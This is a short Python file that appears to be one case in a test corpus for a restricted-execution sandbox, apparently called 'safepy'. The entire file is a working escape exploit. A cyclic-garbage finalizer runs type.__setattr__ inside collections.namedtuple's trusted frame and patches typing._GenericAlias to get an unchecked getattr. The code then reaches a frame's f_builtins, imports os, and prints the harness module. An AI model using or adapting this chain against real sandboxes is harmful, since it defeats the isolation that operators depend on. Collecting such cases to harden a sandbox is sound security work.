# technique: a C callable as __del__ (functools.partial(operator.call, f, *a)) of cyclic garbage runs with whatever Python frame is on top when the gen0 collection fires; collections.namedtuple's real frame (exec-allowed, reached through the plain-copy wrapper) allocates most of what a namedtuple() call does, so looping garbage+namedtuple() soon runs f inside it: type.__setattr__/__delattr__ on typing._GenericAlias as in 700 -> unchecked getattr -> gi_frame -> f_builtins
# expect: any
import collections, functools, operator, json, enum, typing
def trusted(done, f, *a):
    G = type("G", (), {"__del__": functools.partial(operator.call, f, *a)})
    for i in range(5000):
        g = G(); g.me = g; del g               # cyclic garbage with a C finalizer
        collections.namedtuple("N", "a b c")   # the collection fires inside its frame
        if done():
            return i
    raise RuntimeError("no luck")
got = []
class Spy:
    def __eq__(self, other):
        got.append(other); return False
    __hash__ = object.__hash__
class E(type("Mixin", (), {"__reduce_ex__": Spy()}), enum.Enum):
    A = 1
red = got[0]                                   # object.__reduce_ex__ (case 382's capture)
GA = type(typing.List[int])                    # typing._GenericAlias: forwards getattr to __origin__
BGA = GA.__mro__[1]
def reduced():
    try:
        return red(GA([], (int,), name="x"), 4)
    except Exception:
        return None
trusted(lambda: GA.__module__ == "__main__", type.__setattr__, GA, "__module__", "__main__")
trusted(lambda: BGA.__module__ == "__main__", type.__setattr__, BGA, "__module__", "__main__")
trusted(lambda: (reduced() or [None])[0] is not operator.getitem, type.__delattr__, GA, "__reduce__")
def uget(obj, name):
    out = []
    def ok():
        try:
            st = red(GA(obj, (int,), name="x"), 4)[2]
        except Exception:
            return False
        if type(st) is tuple and st[1] is not None and name in st[1]:
            out.append(st[1][name])
        return bool(out)
    trusted(ok, type.__setattr__, GA, "__slotnames__", [name])
    return out[0]
gen = json.JSONEncoder().iterencode({"a": 1})
fr = uget(gen, "gi_frame")
bi = uget(fr, "f_builtins")
os_mod = bi["__import__"]("os")
print(fr, bi["open"], os_mod, os_mod.getpid())
print(bi["__import__"]("sys").modules["_safepy_harness"])
